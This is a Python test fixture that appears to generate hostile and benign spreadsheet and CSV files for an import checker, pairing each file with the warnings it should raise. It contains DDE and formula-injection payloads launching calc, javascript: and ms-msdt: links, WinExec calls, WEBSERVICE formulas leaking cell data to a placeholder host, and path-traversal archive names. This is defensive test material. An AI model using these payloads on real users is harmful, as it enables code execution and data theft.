"""Files that are read: name -> (how it comes about, the codes that are warned of)."""

import zipfile

from tests.hostile_files import (
    BOOK_RELS,
    ROWS,
    STYLES,
    Made,
    beside,
    cell,
    external,
    formula,
    holding,
    linked,
    named,
    parts,
    relation,
    relations,
    with_parts,
    workbook,
    worksheet,
    xlsx,
    zipped,
)

READ: dict[str, tuple[Made, set[str]]] = {
    "sound.xlsx": (xlsx, set()),
    "sound.xls": (xlsx, {"WRONG_EXTENSION"}),
    "stored.xlsx": (lambda: zipped(parts(), zipfile.ZIP_STORED), set()),
    "junk_before.xlsx": (lambda: b"\r\nX-Mailer: x\r\n" * 50 + xlsx(), {"JUNK_BEFORE_ZIP"}),
    "comment_behind.xlsx": (lambda: xlsx()[:-2] + b"\x05\0hello", set()),
    "lying_extent.xlsx": (lambda: xlsx(sheet=worksheet(head='<dimension ref="A1:XFD1048576"/>')), set()),
    "formats_below.xlsx": (
        lambda: xlsx(
            sheet=worksheet(ROWS + "".join(f'<row r="{n}" s="1"><c r="A{n}" s="1"/></row>' for n in range(3, 30_000)))
        ),
        set(),
    ),
    "format_at_corner.xlsx": (
        lambda: xlsx(sheet=worksheet(ROWS + '<row r="1048576"><c r="XFD1048576" s="1"/></row>')),
        set(),
    ),
    "stray_right.xlsx": (lambda: xlsx(sheet=beside(cell("XFD3"))), {"STRAY_CELL"}),
    "stray_below.xlsx": (
        lambda: xlsx(sheet=worksheet(ROWS + f'<row r="1048576">{cell("A1048576")}</row>')),
        {"STRAY_CELL"},
    ),
    "stray_corner.xlsx": (
        lambda: xlsx(sheet=worksheet(ROWS + f'<row r="1048576">{cell("XFD1048576")}</row>')),
        {"STRAY_CELL"},
    ),
    "no_addresses.xlsx": (
        lambda: xlsx(
            sheet=worksheet(
                ROWS + '<row><c t="inlineStr"><is><t>K2</t></is></c><c t="inlineStr"><is><t>李雷</t></is></c></row>'
            )
        ),
        set(),
    ),
    "prefixed.xlsx": (
        lambda: xlsx(
            sheet=worksheet()
            .replace(b"<", b"<x:")
            .replace(b"<x:/", b"</x:")
            .replace(b"<x:?", b"<?")
            .replace(b"xmlns=", b"xmlns:x=")
        ),
        set(),
    ),
    "drawing_rows.xlsx": (
        lambda: xlsx(
            sheet=worksheet(tail='<controls><from xmlns:d="d"><d:row>3</d:row><d:c>1</d:c></from></controls>')
        ),
        set(),
    ),
    "hidden_beside.xlsx": (
        lambda: xlsx(
            book=workbook().replace(
                b"</sheets>", '<sheet name="旧" sheetId="2" state="hidden" r:id="rId1"/></sheets>'.encode()
            )
        ),
        {"HIDDEN_SHEET"},
    ),
    "very_hidden.xlsx": (
        lambda: xlsx(
            book=workbook().replace(
                b"</sheets>", '<sheet name="旧" sheetId="2" state="veryHidden" r:id="rId1"/></sheets>'.encode()
            )
        ),
        {"HIDDEN_SHEET", "VERY_HIDDEN_SHEET"},
    ),
    "days1904.xlsx": (lambda: xlsx(book=workbook(head='<workbookPr date1904="1"/>')), {"DATE_1904"}),
    "style.xlsx": (lambda: xlsx(sheet=beside('<c r="A3" s="77"><v>1</v></c>')), {"BAD_STYLE"}),
    **{
        f"colour_{n}.xlsx": (
            lambda c=colour: xlsx(
                styles=parts()[STYLES].replace(
                    b"<cellXfs", f'<fonts><font><color rgb="{c}"/></font></fonts><cellXfs'.encode()
                )
            ),
            {"BAD_STYLE"},
        )
        for n, colour in enumerate(("red", "FF00", "GG0000", ""))
    },
    # links, programs
    **{
        f"link_{n}.xlsx": (lambda t=target: linked(t), {"HOSTILE_LINK"})
        for n, target in enumerate(
            (
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                "java\tscript:alert(1)",
                "vbscript:x",
                "data:text/html,x",
                "file:///C:/Windows/System32/calc.exe",
                r"\\server\share\x.exe",
                "//server/share",
                "ms-excel:ofe|u|http://x/x.xlsm",
                "ms-msdt:/id",
                "search-ms:query=x",
                "http://127.0.0.1/?q=",
                "http://localhost:8080",
                "http://[::1]/",
                "http://10.0.0.8/x",
                "http://user@127.0.0.1/",
                "http://2130706433/",
                "mailto:a@b.cn?attach=c:\\x",
                "C:\\x.exe",
                "%TEMP%\\x.exe",
                "cmd:/c calc",
            )
        )
    },
    **{
        f"harmless_{n}.xlsx": (lambda t=target: linked(t), set())
        for n, target in enumerate(
            (
                "https://example.com/a?b=c",
                "http://sh.lianjia.com/ershoufang/1.html",
                "mailto:a@example.com",
                "tel:13800000001",
                "#客户!A1",
                "附件.pdf",
            )
        )
    },
    "dde.xlsx": (lambda: external('<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems/></ddeLink>'), {"DDE_LINK"}),
    "ole.xlsx": (lambda: external('<oleLink r:id="rId1" progId="Package" xmlns:r="r"/>'), {"DDE_LINK"}),
    **{
        f"dde_formula_{n}.xlsx": (lambda t=text: formula(t), {"DDE_LINK"})
        for n, text in enumerate(
            (
                "cmd|'/C calc'!A0",
                "MSEXCEL|'\\..\\..\\x.exe'!''",
                "1+cmd|' /C calc'!A0",
                'DDE("cmd","/C calc","x")',
                "rundll32|'URL.dll,x'!A",
            )
        )
    },
    **{
        f"web_formula_{n}.xlsx": (lambda t=text: formula(t), {"WEB_FORMULA"})
        for n, text in enumerate(
            (
                'WEBSERVICE("http://x/?"&B2)',
                '_xlfn.WEBSERVICE("http://x/"&A1)',
                "_xlfn.FILTERXML(A1,B1)",
                'HYPERLINK("http://x/?"&A1,"点")',
                'HYPERLINK(A1&"http://x",1)',
                'IMPORTXML("http://x","//a")',
                'CALL("Kernel32","WinExec","JCJ","calc",0)',
                'REGISTER("a","b")',
                '_xlfn.IMAGE("http://x/"&B2)',
                'RTD("x",,"y")',
            )
        )
    },
    **{
        f"calm_formula_{n}.xlsx": (lambda t=text: formula(t), set())
        for n, text in enumerate(
            (
                "SUM(A1:A2)",
                'HYPERLINK("#客户!A1","去")',
                'HYPERLINK("https://example.com","看")',
                'IF(A1="a|b!","x","y")',
                "RECALL(1)",
                'HYPERLINK("#客户!A"&ROW(),"去")',
            )
        )
    },
    **{
        f"auto_{n}.xlsx": (lambda name=name: named(name), {"AUTO_NAME"})
        for n, name in enumerate(("_xlnm.Auto_Open", "auto_open", "AUTO_CLOSE", "Auto_Open_x", "_xlnm.Auto_Close"))
    },
    "hidden_name.xlsx": (lambda: named("secret", ' hidden="1"'), {"HIDDEN_NAME"}),
    "plain_name.xlsx": (lambda: named("面积"), set()),
    **{
        f"macro_{n}.xlsx": (lambda p=part: with_parts({p: b"\0" * 1000}), {"MACRO_IN_XLSX"})
        for n, part in enumerate(("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/x/vbaProject2.bin"))
    },
    "macro_sheet.xlsx": (lambda: with_parts({"xl/macrosheets/sheet1.xml": b"<x/>"}), {"MACRO_SHEET"}),
    "connection.xlsx": (lambda: with_parts({"xl/connections.xml": b"<connections/>"}), {"CONNECTION"}),
    "query.xlsx": (lambda: with_parts({"xl/queryTables/queryTable1.xml": b"<queryTable/>"}), {"CONNECTION"}),
    "power_query.xlsx": (
        lambda: with_parts({"customXml/item1.xml": '<DataMashup xmlns="x">AAAA</DataMashup>'.encode("utf-16")}),
        {"POWER_QUERY"},
    ),
    "embedded.xlsx": (lambda: with_parts({"xl/embeddings/oleObject1.bin": b"\0"}), {"EMBEDDED"}),
    "active_x.xlsx": (lambda: with_parts({"xl/activeX/activeX1.bin": b"\0"}), {"EMBEDDED"}),
    "add_in.xlsx": (lambda: with_parts({"xl/webextensions/webextension1.xml": b"<we/>"}), {"WEB_EXTENSION"}),
    **{
        f"slip_{n}.xlsx": (lambda p=part: with_parts({p: b"x"}), {"UNKNOWN_PART"})
        for n, part in enumerate(("../../evil.txt", "xl/../../../x", "C:/x.txt", "xl/x.exe", "x.vbs"))
    },
    "outer_image.xlsx": (
        lambda: with_parts(
            {
                "xl/drawings/_rels/drawing1.xml.rels": relations(
                    relation(1, "image", "http://x/track.png", external=True)
                )
            }
        ),
        {"EXTERNAL_LINK"},
    ),
    "template.xlsx": (
        lambda: with_parts(
            {
                BOOK_RELS: parts()[BOOK_RELS].replace(
                    b"</Rel", relation(9, "externalLinkPath", r"\\x\y.xlsx", external=True).encode() + b"</Rel"
                )
            }
        ),
        {"EXTERNAL_LINK"},
    ),
    # cells
    "control.xlsx": (lambda: holding("K2", "李_x0008_雷", "138_x0000_00000002", "a_x001F_"), {"CONTROL_CHARS"}),
    "invisible.xlsx": (lambda: holding("K2", "李\u200b雷", "\u202d13800000002\u202c", "x\u00a0y"), {"INVISIBLE_CHARS"}),
    "override.xlsx": (lambda: holding("K2", "李\u202etxt.exe", "", ""), {"INVISIBLE_CHARS"}),
    "alike.xlsx": (lambda: holding("K2", "Аnna", "", ""), {"LOOKALIKE_CHARS"}),
    "long_number.xlsx": (lambda: holding("K2", "李雷", "", 110101199003071234), {"PRECISION_LOST"}),
    **{
        f"formula_text_{n}.xlsx": (lambda t=text: holding("K2", "李雷", "", t), {"FORMULA_TEXT"})
        for n, text in enumerate(
            (
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "＝1+1",
                "\t=1",
                " =1",
                '"=1',
                ";=1",
                "%0A=1",
                "=cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "＠x",
                "=",
            )
        )
    },
    **{
        f"plain_text_{n}.xlsx": (lambda t=text: holding("K2", "李雷", "", t), set())
        for n, text in enumerate(
            (
                "-",
                "--",
                "-5",
                "+86 13800000002",
                "-近地铁",
                "--139㎡南",
                "1+1",
                "a=b",
                "3-5",
                "A&B",
                "010-62345678",
                "-100–100",
            )
        )
    },
    "zone.xlsx": (lambda: xlsx(sheet=beside('<c r="D3" t="d"><v>2024-03-05T22:30:00Z</v></c>')), {"DATE"}),
    "not_calculated.xlsx": (
        lambda: xlsx(sheet=beside('<c r="C3"><f>C2</f></c>', '<c r="D3"><f>D2</f><v/></c>')),
        {"NO_VALUE"},
    ),
    "partly_calculated.xlsx": (
        lambda: xlsx(sheet=beside('<c r="C3"><f>IF(C2="",C2,1)</f><v>1</v></c>', '<c r="D3"><f>D2</f></c>')),
        {"NO_VALUE"},
    ),
    "shared_not_calculated.xlsx": (
        lambda: xlsx(
            sheet=beside(
                '<c r="C3"><f t="shared" ref="C3:D3" si="0">C2</f></c>', '<c r="D3"><f t="shared" si="0"/></c>'
            )
        ),
        {"NO_VALUE"},
    ),
    "calculated.xlsx": (
        lambda: xlsx(sheet=beside('<c r="C3" t="str"><f>C2</f><v>x</v></c>', '<c r="D3"><f>1</f><v>1</v></c>')),
        set(),
    ),
    "calculated_empty.xlsx": (
        lambda: xlsx(
            sheet=beside(
                '<c r="C3" t="str"><f>A9</f><v></v></c>',
                '<c r="D3"><f>1</f><v>1</v></c>',
                '<c r="E3"><f>IF(1,"",2)</f></c>',
            )
        ),
        set(),
    ),
    "infinite.xlsx": (lambda: xlsx(sheet=beside('<c r="C3"><v>1e999</v></c>')), {"ERROR_VALUE"}),
    "no_number.xlsx": (lambda: xlsx(sheet=beside('<c r="C3"><v>NaN</v></c>')), {"ERROR_VALUE"}),
    "rounded.csv": (lambda: "姓名,电话,身份证\n王芳,13800000001,1.10101E+17\n".encode(), {"PRECISION_LOST"}),
    "rounded_phone.csv": (lambda: "姓名,电话\n王芳,1.38E+10\n".encode(), set()),
    "big5.csv": (lambda: "姓名,電話,備註\n王芳,13800000001,想看學區\n".encode("big5"), {"ENCODING"}),
    "two_encodings.csv": (
        lambda: "姓名,电话\n王芳,13800000001\n".encode("gb18030") + "李雷,13800000002\n".encode(),
        {"ENCODING"},
    ),
    "rows_backwards.xlsx": (
        lambda: xlsx(sheet=worksheet(f'<row r="3">{cell("A3")}</row>' + ROWS)),
        set(),
    ),
    "error_text.xlsx": (lambda: holding("K2", "李雷", "#N/A", ""), {"ERROR_VALUE"}),
    # text
    "gb.csv": (lambda: "姓名,电话\n王芳,13800000001\n".encode("gb18030"), set()),
    "bom.csv": (lambda: "姓名,电话\n王芳,13800000001\n".encode("utf-8-sig"), set()),
    "utf16.csv": (lambda: "姓名\t电话\r\n王芳\t13800000001\r\n".encode("utf-16"), set()),
    "false_bom.csv": (lambda: b"\xef\xbb\xbf" + "姓名,电话\n王芳,13800000001\n".encode("gb18030"), {"ENCODING"}),
    "mixed_breaks.csv": (lambda: "姓名,电话\r\n王芳,13800000001\n李雷,13800000002\r韩梅,13800000003".encode(), set()),
    "lost.csv": (lambda: "姓名,电话\n王\ufffd,13800000001\n".encode(), {"MOJIBAKE"}),
    "cut_utf8.csv": (
        lambda: ("姓名,电话\n" + "王芳,13800000001\n" * 200).encode()[:-16] + "芳".encode()[:2] + b",1\n",
        {"MOJIBAKE"},
    ),
    "formula.csv": (lambda: "姓名,电话,备注\n王芳,13800000001,=1+1\n".encode(), {"FORMULA_TEXT"}),
    "semicolon.csv": (lambda: "姓名;电话\n王芳;13800000001\n".encode(), set()),
}
